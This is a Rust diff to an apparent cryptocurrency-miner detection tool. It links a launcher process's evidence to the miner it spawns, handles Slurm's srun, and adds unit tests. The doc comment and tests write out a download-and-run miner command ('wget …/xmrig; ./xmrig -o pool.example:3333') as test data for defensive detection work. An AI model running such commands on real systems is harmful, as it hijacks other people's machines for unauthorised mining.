@@ -19,6 +19,8 @@ struct Held {
     key: ProcessKey,
     /// The words of the command it runs.
     words: Vec<String>,
+    /// Its command starts outside its process tree (`srun`).
+    remote: bool,
     found: Vec<Found>,
     since_ns: u64,
 }
@@ -36,21 +38,31 @@ pub struct Launches {
 }
 
 impl Launches {
-    /// The exec of `key` with `argv` gave `found`. If it is the command a held launcher runs
-    /// (or the launcher itself, exec'ing in place), the launcher's evidence joins `found`. If
-    /// it is a launcher, `found` is taken and held.
+    /// The exec of `key` with `argv`, whose ancestors are `ancestors` (tgids, nearest first),
+    /// gave `found`. If it is the command a held launcher runs (or the launcher itself,
+    /// exec'ing in place), the launcher's evidence joins `found`. If it is a launcher, `found`
+    /// is taken and held.
+    ///
+    /// The command must descend from the launcher (unless the launcher starts it elsewhere,
+    /// as `srun` does), and give evidence of its own: the
+    /// launcher's evidence came from the words of that command, so its exec gives the same.
+    /// `bash -c "wget …/xmrig; ./xmrig -o …"` runs `wget` first, which is in the words but
+    /// gives nothing, so the evidence waits for `./xmrig`.
     pub fn on_exec(
         &mut self,
         key: ProcessKey,
         argv: &[String],
+        ancestors: &[u32],
         now_ns: u64,
         found: &mut Vec<Found>,
     ) {
-        if let Some(i) = self
-            .held
-            .iter()
-            .position(|h| h.key.tgid == key.tgid || indicators::runs_within(&h.words, argv))
-        {
+        let evidence = !found.is_empty();
+        if let Some(i) = self.held.iter().position(|h| {
+            h.key.tgid == key.tgid
+                || (evidence
+                    && (h.remote || ancestors.contains(&h.key.tgid))
+                    && indicators::runs_within(&h.words, argv))
+        }) {
             let h = self.held.swap_remove(i);
             self.joined += 1;
             found.extend(h.found.into_iter().map(|f| Found {
@@ -71,6 +83,7 @@ impl Launches {
         self.held.push(Held {
             key,
             words,
+            remote: indicators::launches_remotely(argv),
             found: std::mem::take(found),
             since_ns: now_ns,
         });
@@ -127,5 +140,76 @@ impl Launches {
 
     pub fn held(&self) -> usize {
         self.held.len()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use minerwatch_detect::Finding;
+
+    use super::*;
+
+    fn key(tgid: u32) -> ProcessKey {
+        ProcessKey { tgid, start: 1 }
+    }
+
+    fn argv(words: &[&str]) -> Vec<String> {
+        words.iter().map(|w| w.to_string()).collect()
+    }
+
+    fn evidence(tgid: u32) -> Vec<Found> {
+        vec![Found {
+            tgid,
+            finding: Finding::MinerCmdline {
+                indicators: vec!["-o pool.example:3333".into()],
+            },
+            peer: None,
+        }]
+    }
+
+    #[test]
+    fn the_launchers_evidence_joins_the_miner_it_started_not_a_download_or_a_stranger() {
+        let mut l = Launches::default();
+        let mut found = evidence(10);
+        let script = "wget http://x.example/xmrig; ./xmrig -o pool.example:3333";
+        l.on_exec(key(10), &argv(&["bash", "-c", script]), &[1], 0, &mut found);
+        assert!(found.is_empty(), "held");
+        // The download runs first: in the words, but no evidence of its own.
+        let mut found = Vec::new();
+        l.on_exec(
+            key(11),
+            &argv(&["wget", "http://x.example/xmrig"]),
+            &[10, 1],
+            1,
+            &mut found,
+        );
+        assert!(found.is_empty());
+        // The same command line elsewhere on the node, not under the launcher.
+        let miner = argv(&["./xmrig", "-o", "pool.example:3333"]);
+        let mut found = evidence(20);
+        l.on_exec(key(20), &miner, &[2, 1], 2, &mut found);
+        assert_eq!(found.len(), 1, "a stranger keeps its own evidence only");
+        assert_eq!(l.joined, 0);
+        // The miner under the launcher: one alert with both.
+        let mut found = evidence(12);
+        l.on_exec(key(12), &miner, &[10, 1], 3, &mut found);
+        assert_eq!(found.len(), 2);
+        assert!(found.iter().all(|f| f.tgid == 12));
+        assert_eq!((l.joined, l.held.len()), (1, 0));
+    }
+
+    #[test]
+    fn srun_starts_its_task_elsewhere_and_it_still_joins() {
+        let mut l = Launches::default();
+        let mut found = evidence(30);
+        let miner = ["./xmrig", "-o", "pool.example:3333"];
+        let mut cmd = vec!["srun", "-n1"];
+        cmd.extend(miner);
+        l.on_exec(key(30), &argv(&cmd), &[1], 0, &mut found);
+        assert!(found.is_empty(), "held");
+        // The task's parent is slurmstepd, not srun.
+        let mut found = evidence(31);
+        l.on_exec(key(31), &argv(&miner), &[5, 1], 1, &mut found);
+        assert_eq!((found.len(), l.joined), (2, 1));
     }
 }
